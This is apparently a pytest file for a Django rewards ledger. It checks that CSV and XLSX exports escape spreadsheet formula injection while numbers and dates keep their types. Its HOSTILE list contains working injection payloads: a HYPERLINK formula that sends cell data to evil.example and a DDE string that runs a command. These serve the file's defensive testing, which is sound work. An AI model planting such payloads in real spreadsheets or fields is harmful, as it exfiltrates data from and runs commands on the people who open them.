"""Exports never carry a live formula: every text cell that a spreadsheet would evaluate is inert,
in the CSV and in the XLSX (read back with openpyxl), while numbers and dates keep their types."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from common.spreadsheet import FORMULA_TRIGGERS, csv_cell, safe_text, xlsx_cell
from deals.models import Deal
from rewards.services import reward_approve, reward_compute, reward_pay

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_text_makes_every_trigger_inert(text):
    assert not safe_text(text).startswith(FORMULA_TRIGGERS)
    assert safe_text(text).endswith(text)  # nothing of the user's text is lost


@pytest.mark.parametrize("text", ["技术转让", "A=1", "12.50", "", "1-2"])
def test_safe_text_leaves_ordinary_text_alone(text):
    assert safe_text(text) == text


def test_cells_keep_numbers_and_dates_typed():
    sheet = Workbook().active
    values = [Decimal("-12.50"), -3, 1.5, dt.date(2026, 1, 2), None, "=1+1"]
    for column, value in enumerate(values, start=1):
        xlsx_cell(sheet.cell(row=1, column=column), value)
    cells = list(sheet[1])
    assert [c.data_type for c in cells[:4]] == ["n", "n", "n", "d"]
    assert cells[5].data_type == "s" and cells[5].value == "'=1+1"
    assert csv_cell(Decimal("-1.00")) == Decimal("-1.00") and csv_cell("-1") == "'-1"


@pytest.fixture
def hostile_ledger(zhenhai, register, broker, co_broker, finance):
    broker.display_name = "=1+2"
    broker.save()
    deal = register(broker, "1000000.00", registered_on=dt.date(2026, 2, 3))
    Deal.objects.filter(pk=deal.pk).update(title=HOSTILE[0])
    reward = reward_compute(deal_id=deal.pk)
    reward_approve(reward_id=reward.pk, actor=finance)
    reward_pay(reward_id=reward.pk, actor=finance, paid_on=timezone.localdate(), reference="@x")
    return reward


def test_csv_export_has_no_cell_a_spreadsheet_evaluates(api, hostile_ledger, finance):
    response = api(finance).get("/api/v1/rewards/export/", {"year": 2026})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the ledger is empty"
    for cell in cells:
        if cell.startswith("-") and cell[1:].replace(".", "", 1).isdigit():
            continue  # a negative number stays a number
        assert not cell.startswith(FORMULA_TRIGGERS), cell
    assert "'" + HOSTILE[0] in cells and "'=1+2" in " ".join(cells) and "'@x" in cells


def test_xlsx_export_has_no_formula_and_no_leading_equals(api, hostile_ledger, finance):
    response = api(finance).get("/api/v1/rewards/export/", {"year": 2026, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    texts = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
                texts.append(cell.value)
    assert "'" + HOSTILE[0] in texts and "'@x" in texts
    header = [c.value for c in sheet[1]]
    amount = dict(zip(header, sheet[2], strict=True))["应发金额（元）"]
    assert amount.data_type == "n"
